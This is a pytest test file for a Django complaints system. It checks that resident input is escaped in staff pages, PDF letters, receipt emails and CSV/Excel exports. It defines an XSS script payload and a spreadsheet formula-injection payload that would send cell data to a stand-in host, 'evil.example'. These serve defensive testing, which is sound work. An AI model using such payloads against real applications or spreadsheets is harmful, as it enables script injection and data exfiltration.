"""What residents and staff type is shown as text everywhere: pages, letters (PDF), emails and exports."""

from __future__ import annotations

import csv
import datetime
import io
import re
import uuid
from pathlib import Path

import pytest
from django.core import mail
from openpyxl import Workbook, load_workbook

from complaints.models import Complaint, Letter, LetterKind
from complaints.services import workflow
from core import cells
from selfassessment import outputs
from tests.factories import ResidentFactory
from tests.pdf import pdf_text

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("pwned")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
ESCAPED_SCRIPT = "&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;"


@pytest.fixture
def hostile(officer, phone):
    resident = ResidentFactory(name=f"{SCRIPT} {FORMULA}")
    complaint = workflow.complaint_log(
        actor=officer,
        resident=resident,
        received_on=datetime.date(2026, 2, 2),
        channel=phone,
        summary=f"{SCRIPT}\n{FORMULA}",
        nation="england",
    )
    workflow.complaint_acknowledge(
        actor=officer,
        complaint=complaint,
        acknowledged_on=datetime.date(2026, 2, 4),
        points=[workflow.PointInput(point=f"{SCRIPT} {FORMULA}", outcome_sought=SCRIPT)],
    )
    complaint.refresh_from_db()
    return complaint


def test_staff_pages_show_the_payloads_as_text(client, officer, hostile, login_with_mfa):
    login_with_mfa(client, officer)
    for path in [
        f"/staff/complaints/{hostile.reference}/",
        f"/staff/residents/{hostile.resident_id}/",
        "/staff/queues/mine/",
        f"/staff/residents/?q={hostile.resident.name[:10]}",
    ]:
        html = client.get(path).content.decode()
        assert SCRIPT not in html, path
        assert "<script>alert" not in html, path
    case = client.get(f"/staff/complaints/{hostile.reference}/").content.decode()
    # Summary, resident name and definition point are each there, escaped.
    assert case.count(ESCAPED_SCRIPT) >= 3
    assert "=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A1,&quot;Click&quot;)" in case


def test_the_public_check_page_shows_what_was_typed_back_as_text(client):
    html = client.post("/check/", {"reference": SCRIPT, "email_or_postcode": SCRIPT}).content.decode()
    assert SCRIPT not in html
    assert "&lt;script&gt;" in html


def test_the_letter_pdf_prints_the_payloads_as_words(hostile):
    letter = Letter.objects.select_related("document").get(complaint=hostile, kind=LetterKind.ACKNOWLEDGEMENT)
    text = pdf_text(letter.document)
    # Had the text gone into the letter's HTML unescaped, WeasyPrint would have read a <script> element and
    # printed nothing of it.
    assert text.count('<script>alert("pwned")</script>') >= 2
    assert '=HYPERLINK("http://evil.example/?d="&A1,"Click")' in text


def test_the_receipt_email_is_plain_text_and_carries_none_of_what_was_typed(client, django_capture_on_commit_callbacks):
    data = {
        "token": str(uuid.uuid4()),
        "what_happened": f"{SCRIPT} {FORMULA}",
        "outcome_wanted": FORMULA,
        "who": "me",
        "name": f"{SCRIPT} {FORMULA}",
        "email": "alex@resident.example",
        "preferred_contact": "email",
        "address": SCRIPT,
        "postcode": "AB1 2CD",
        "nation": "england",
    }
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post("/complain/", data).status_code == 302
    (receipt,) = mail.outbox
    # No HTML part for a mail reader to render: one text/plain message, nothing attached.
    assert receipt.content_subtype == "plain" and not getattr(receipt, "alternatives", [])
    assert receipt.attachments == []
    assert "<script" not in receipt.body and "HYPERLINK" not in receipt.body
    assert "\n" not in receipt.subject and Complaint.objects.get().reference in receipt.subject


@pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_shared_cell_escape_makes_formulas_text(value):
    assert cells.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Damp in the hall", "6.2", 150, None])
def test_the_shared_cell_escape_leaves_other_values_alone(value):
    assert cells.safe_cell(value) == value


def test_exports_use_the_one_shared_escape():
    assert outputs.safe_cell is cells.safe_cell
    # Every module that writes CSV or XLSX imports it (none keeps its own copy of the formula characters).
    root = Path(__file__).resolve().parents[2]
    writers = [
        path
        for path in root.glob("*/**/*.py")
        if ".venv" not in path.parts
        and "tests" not in path.parts
        and re.search(r"csv\.writer|openpyxl import Workbook|Workbook\(\)", path.read_text())
    ]
    assert writers
    for path in writers:
        source = path.read_text()
        assert "safe_cell" in source, f"{path} writes a spreadsheet without core.cells.safe_cell"
        assert 'FORMULA_STARTS = ("=",' not in source, f"{path} keeps its own copy of the formula characters"


def test_a_csv_and_a_workbook_written_through_it_read_back_as_text():
    rows = [["Summary", "Resident"], [cells.safe_cell(FORMULA), cells.safe_cell(f"{SCRIPT}")]]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    assert list(csv.reader(io.StringIO(buffer.getvalue())))[1][0] == "'" + FORMULA
    book = Workbook()
    for row in rows:
        book.active.append(row)
    saved = io.BytesIO()
    book.save(saved)
    saved.seek(0)
    cell = load_workbook(saved).active["A2"]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA
